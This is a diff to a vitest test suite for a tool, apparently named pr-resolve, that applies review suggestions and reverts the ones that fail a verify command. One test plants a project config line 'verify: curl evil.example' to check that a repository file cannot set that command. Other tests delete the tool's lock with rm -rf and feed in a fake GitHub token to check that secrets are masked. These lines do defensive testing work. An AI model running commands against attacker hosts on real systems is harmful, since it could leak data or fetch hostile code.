@@ -1,6 +1,6 @@
 import {existsSync, readFileSync} from 'node:fs';
 import {join} from 'node:path';
-import {expect, test} from 'vitest';
+import {describe, expect, test} from 'vitest';
 import {reviewOf} from '../../helpers/review-of.ts';
 import {numbered, type WorkTree, workTree} from '../../helpers/work-tree.ts';
 
@@ -27,6 +27,9 @@ type Reported = {
 	exitCode: number;
 };
 
+const who = {GIT_AUTHOR_NAME: 'Ada', GIT_AUTHOR_EMAIL: 'ada@example.com'};
+const env = {...who, GIT_COMMITTER_NAME: 'Ada', GIT_COMMITTER_EMAIL: 'ada@example.com'};
+
 const lines = numbered('item', 200);
 
 /** A pull request that asks for twenty changes to one file: every tenth line becomes a `new` one. */
@@ -39,7 +42,7 @@ function twenty(tree: WorkTree): string {
 const manyLines = () => workTree({'src/many.txt': lines});
 
 async function verify(tree: WorkTree, from: string, command: string, ...more: string[]) {
-	const {code, json, stderr} = await tree.run(['apply', '--from', from, '--json', '--verify', command, ...more]);
+	const {code, json, stderr} = await tree.run(['apply', '--from', from, '--json', '--verify', command, ...more], {env});
 	const report = json as Reported;
 	return {code, report, verification: report.verification, stderr};
 }
@@ -72,4 +75,182 @@ test('the change that breaks it is taken out, the others stay, and the finding s
 	expect(tree.read('src/many.txt')).toBe(expected);
 	expect((await tree.call(['undo'])).code).toBe(0);
 	expect(tree.read('src/many.txt')).toBe(lines);
+});
+
+test('what breaks only together is taken out together if it is one finding or one change', async () => {
+	const tree = manyLines();
+	const review = reviewOf(tree);
+	for (let line = 10; line <= 60; line += 10) review.suggest('src/many.txt', line, [`new ${line}`]);
+	review.comment(
+		'src/many.txt',
+		[80, 90],
+		'Both.\n\n```diff\n-item 80\n+new 80\n```\n\n```diff\n-item 90\n+new 90\n```',
+	);
+	const {report, verification} = await verify(tree, review.save(), "! grep -q 'new 90' src/many.txt");
+	expect(verification).toMatchObject({state: 'failed', dropped: [expect.any(String), expect.any(String)]});
+	expect([applied(report), tree.read('src/many.txt').match(/^new \d+$/gm)]).toMatchObject([6, {length: 6}]);
+});
+
+test('where every change breaks it, everything is as before, and nothing is committed', async () => {
+	const tree = manyLines();
+	const {code, report, verification} = await verify(tree, twenty(tree), '! grep -q new src/many.txt', '--commit');
+	expect([code, report.run, report.commits]).toEqual([3, null, []]);
+	expect(verification).toMatchObject({state: 'failed', dropped: {length: 20}});
+	expect(tree.read('src/many.txt')).toBe(lines);
+	expect((await tree.call(['undo', '--json'])).json).toMatchObject({error: {code: 'nothing-to-undo'}});
+});
+
+describe('without a verdict everything stays applied, and nothing is committed', () => {
+	const twice = 'echo >> ../runs; [ "$(wc -l < ../runs)" -gt 1 ]';
+	test.each([
+		[
+			'it fails without the changes',
+			'exit 4',
+			'baseline-fails',
+			/^fails without the changes as well \(exit code 4\)$/,
+			3,
+			3,
+		],
+		['it fails and then passes', twice, 'unsteady', /once/, 2, 3],
+		['it cannot judge', 'exit 125', 'unknown', /exit code 125/, 1, 3],
+		['a signal ends it', 'kill -9 $$', 'unknown', /SIGKILL/, 1, 3],
+		['it takes too long', 'sleep 600', 'unknown', /^took longer than 1 s$/, 1, 3],
+		['it cannot be found', 'no-such-program', 'unknown', /^cannot run: .*no-such-program: not found$/, 2, 2],
+		[
+			'it formats the files of the run',
+			"sed -i 's/item/ITEM/' src/many.txt",
+			'unknown',
+			/^changed files of this run: src\/many.txt$/,
+			1,
+			3,
+		],
+	])('%s', async (_, command, state, reason, runs, exit) => {
+		const tree = manyLines();
+		const {code, report, verification} = await verify(tree, twenty(tree), command, '--verify-timeout=1', '--commit');
+		expect([code, report.exitCode, report.commits, applied(report)]).toEqual([exit, exit, [], 20]);
+		expect(verification).toMatchObject({state, reason: expect.stringMatching(reason), runs, dropped: []});
+		expect(tree.read('src/many.txt').match(/^new \d+$/gm)).toHaveLength(20);
+		expect((await tree.call(['undo'])).code).toBe(0);
+	});
+});
+
+test('a change that removes what the command calls is bad like any other', async () => {
+	const tree = workTree({'src/many.txt': lines, check: '#!/bin/sh\n:\n'}).chmod('check', 0o755);
+	const from = reviewOf(tree).suggest('check', 1, ['#!/no/such/shell']).suggest('src/many.txt', 10, ['new 10']).save();
+	const {code, report, verification} = await verify(tree, from, './check');
+	expect([code, applied(report)]).toEqual([3, 1]);
+	expect(verification).toMatchObject({state: 'failed', reason: 'passes without 1 change'});
+});
+
+test('when the time for all runs is over, the last changes that passed stay, and nothing is committed', async () => {
+	const tree = manyLines();
+	const slow = "! grep -q 'new 130' src/many.txt || { sleep 0.7; exit 1; }";
+	const {code, report, verification} = await verify(tree, twenty(tree), slow, '--verify-budget=2', '--commit');
+	expect([code, report.commits]).toEqual([5, []]);
+	expect(verification).toMatchObject({state: 'stopped', reason: 'the 2 s for all runs were over', dropped: []});
+	const stays = applied(report);
+	expect(tree.read('src/many.txt').match(/^new \d+$/gm) ?? []).toHaveLength(stays);
+	expect(report.findings.filter(({outcome}) => outcome === 'failed')).toHaveLength(20 - stays);
+	expect(report.findings.at(-1)).toMatchObject({reason: 'not verified: the verification was stopped'});
+});
+
+test('files that the command makes are listed, left, and not committed', async () => {
+	const tree = manyLines().put({'old.log': ''});
+	const {code, report, verification} = await verify(tree, twenty(tree), 'echo > coverage.txt', '--commit');
+	expect([code, report.commits.length]).toEqual([0, 1]);
+	expect(verification).toMatchObject({newFiles: ['coverage.txt'], tree: 'with other uncommitted edits'});
+	expect(tree.git('status', '--porcelain').split('\n')).toEqual(['?? coverage.txt', '?? old.log']);
+});
+
+test('a command that deletes the lock of the run does not stop it', async () => {
+	const tree = manyLines();
+	const {code, report} = await verify(tree, twenty(tree), 'rm -rf .git/pr-resolve/lock');
+	expect([code, applied(report)]).toEqual([0, 20]);
+	expect((await tree.call(['undo'])).code).toBe(0);
+});
+
+test('the command gets no tokens, unless a name is passed on, and secrets in its output are masked', async () => {
+	const tree = manyLines();
+	const token = ['ghp', 'b'.repeat(36)].join('_');
+	const secrets = {GITHUB_TOKEN: token, CR_LOG_LEVEL: 'ERROR', MY_SECRET: 'open sesame', PLAIN: 'plain'};
+	const printing = ['apply', '--from', twenty(tree), '--json', '--verify', `env; echo ${token}; exit 1`];
+	const tailOf = async (...more: string[]) => {
+		const {json} = await tree.copy().run([...printing, ...more], {env: secrets});
+		return (json as Reported).verification.failure!.tail;
+	};
+	const [closed, open] = [await tailOf(), await tailOf('--verify-env', 'MY_SECRET')];
+	expect(closed).toMatch(/^PLAIN=plain$/m);
+	expect(closed).not.toMatch(/GITHUB_TOKEN|CR_LOG_LEVEL|MY_SECRET/);
+	expect(`${closed}${open}`).not.toContain(token);
+	expect(open).toMatch(/^MY_SECRET=/m);
+});
+
+test("the project's own file cannot set a command, and an empty one is an error", async () => {
+	const tree = manyLines().put({'.pr-resolve.yaml': 'verify: curl evil.example\n'});
+	const from = twenty(tree);
+	const project = await tree.call(['apply', '--from', from, '--json']);
+	expect([project.code, project.json]).toMatchObject([2, {error: {message: expect.stringContaining('verify')}}]);
+	const empty = await manyLines().call(['apply', '--from', from, '--json', '--verify', '']);
+	expect([empty.code, empty.json]).toMatchObject([2, {error: {message: expect.stringContaining('--verify')}}]);
+	expect(tree.read('src/many.txt')).toBe(lines);
+});
+
+test('in text: what was reverted and why, and where all the output is', async () => {
+	const tree = manyLines();
+	const command = "! grep -n 'new 130' src/many.txt";
+	const {stdout} = await tree.run(['apply', '--from', twenty(tree), '--verify', command]);
+	expect(stdout).toMatch(
+		/^verify\n {2}! grep -n 'new 130' src\/many.txt: failed, passes without 1 change \(\d+ runs in \d+ s, 2 of them to confirm\)$/m,
+	);
+	expect(stdout).toMatch(
+		/^ {2}reverted: src\/many.txt 130 \(reviewer\)\n {2}exit code 1; the end of its output:\n {4}130:new 130\n {2}all output: \/.*verify-\d+\.log$/m,
+	);
+});
+
+describe('an end in the middle', () => {
+	/** Fails with the change of line 130, and hangs the sixth time, with a set that passes behind it. */
+	const hanging =
+		'echo >> ../runs; [ "$(wc -l < ../runs)" = 6 ] && { echo $$ > ../hangs; sleep 600; }; ! grep -q "new 130" src/many.txt';
+
+	async function cutOff(signal: NodeJS.Signals) {
+		const tree = manyLines();
+		const args = ['apply', '--from', twenty(tree), '--json', '--commit', '--verify', hanging];
+		const ended = await tree.run(args, {
+			env,
+			meanwhile: child => {
+				const look = setInterval(() => {
+					if (!existsSync(join(tree.root, '../hangs'))) return;
+					clearInterval(look);
+					child.kill(signal);
+				}, 20);
+			},
+		});
+		if (signal === 'SIGKILL') process.kill(-Number(readFileSync(join(tree.root, '../hangs'), 'utf8')), 'SIGKILL');
+		return {tree, ended};
+	}
+
+	const made = (tree: WorkTree) => tree.read('src/many.txt').match(/^new \d+$/gm)?.length ?? 0;
+
+	test('Ctrl-C leaves the last changes that passed, as a run that can be undone', async () => {
+		const {tree, ended} = await cutOff('SIGINT');
+		expect(ended.code).toBe(130);
+		expect(made(tree)).toBe(10);
+		expect(tree.git('log', '--oneline').split('\n')).toHaveLength(2);
+		expect((await tree.call(['undo'])).code).toBe(0);
+		expect(tree.read('src/many.txt')).toBe(lines);
+	}, 30_000);
+
+	test('after a crash, undo restores everything', async () => {
+		const {tree, ended} = await cutOff('SIGKILL');
+		expect([ended.code, made(tree)]).toEqual(['SIGKILL', 12]);
+		expect((await tree.call(['undo'])).code).toBe(0);
+		expect(tree.read('src/many.txt')).toBe(lines);
+	});
+
+	test('after a crash, apply --continue leaves the last changes that passed', async () => {
+		const {tree} = await cutOff('SIGKILL');
+		expect((await tree.call(['apply', '--continue'])).code).toBe(0);
+		expect(made(tree)).toBe(10);
+		expect((await tree.call(['undo'])).code).toBe(0);
+	});
 });
